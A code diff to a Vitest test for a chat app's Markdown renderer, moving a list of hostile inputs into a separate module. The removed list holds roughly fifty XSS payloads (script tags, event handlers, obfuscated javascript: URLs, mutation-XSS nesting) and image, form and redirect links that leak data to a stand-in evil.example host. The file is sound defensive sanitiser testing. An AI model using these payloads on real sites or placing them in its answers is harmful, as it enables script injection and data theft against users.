@@ -2,6 +2,7 @@ import { renderToStaticMarkup } from 'react-dom/server';
 import { describe, expect, it } from 'vitest';
 import { AnswerLinksContext } from '../../src/web/chat/markdown/context.ts';
 import { Markdown } from '../../src/web/chat/markdown/Markdown.tsx';
+import { hostileMarkdown } from './hostile-markdown.ts';
 
 function render(text: string, { base = null, growing = false }: { base?: string | null; growing?: boolean } = {}) {
   return renderToStaticMarkup(
@@ -18,58 +19,6 @@ function tags(html: string): string[] {
   );
 }
 
-/** What an agent may have read somewhere and repeats. */
-const attacks = [
-  '<script>alert(1)</script>',
-  'a <script>alert(1)</script> b',
-  '<img src=x onerror=alert(1)>',
-  '![x](https://evil.example/leak?q=secret)',
-  '![x][r]\n\n[r]: https://evil.example/leak',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\nscript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A;avascript:alert(1))',
-  '[x](<java\tscript:alert(1)>)',
-  '[x]( javascript:alert(1))',
-  '[x](\u0001javascript:alert(1))',
-  '[x](vbscript:msgbox)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](file:///etc/passwd)',
-  '[x](blob:https://example.org/1)',
-  '<javascript:alert(1)>',
-  '[x][r]\n\n[r]: javascript:alert(1)',
-  '[x](//evil.example)',
-  '[x](/api/auth/sign-out)',
-  '[x](?code=1)',
-  '[x](#code=stolen)',
-  '[x](app:javascript:alert(1))',
-  '[x](app://evil.example/)',
-  '[x](app:/\\evil.example)',
-  '<style>*{display:none}</style>',
-  '<div style="position:fixed;inset:0">x</div>',
-  '<form action="https://evil.example"><input name=a><button>x</button></form>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<object data="https://evil.example"></object>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<details open ontoggle=alert(1)>x</details>',
-  '`<img src=x onerror=alert(1)>`',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```js" onmouseover="alert(1)\ncode\n```',
-  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
-  '# <img src=x onerror=alert(1)>',
-  '[<img src=x onerror=alert(1)>](https://example.org)',
-  '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
-  'https://example.org/"onmouseover="alert(1)',
-];
-
 const ALLOWED_TAG =
   /^(?:div|p|br|hr|strong|em|del|blockquote|figure|figcaption|pre|code|span|button|svg|path|a|h3|h4|h5|h6|ul|ol|li|input|table|thead|tbody|tr|th|td)(?: |$)/;
 
@@ -78,7 +27,7 @@ describe.each([
   ['growing', { growing: true }],
   ['from a page of the application', { base: 'https://app.example.org/cases' }],
 ])('an answer, %s', (_, options) => {
-  it.each(attacks)('lets nothing of %j act', (attack) => {
+  it.each(hostileMarkdown)('lets nothing of %j act', (attack) => {
     for (const text of [attack, `before\n\n${attack}\n\nafter`, `- ${attack}`, `> ${attack}`]) {
       for (const tag of tags(render(text, options))) {
         expect(tag).toMatch(ALLOWED_TAG);
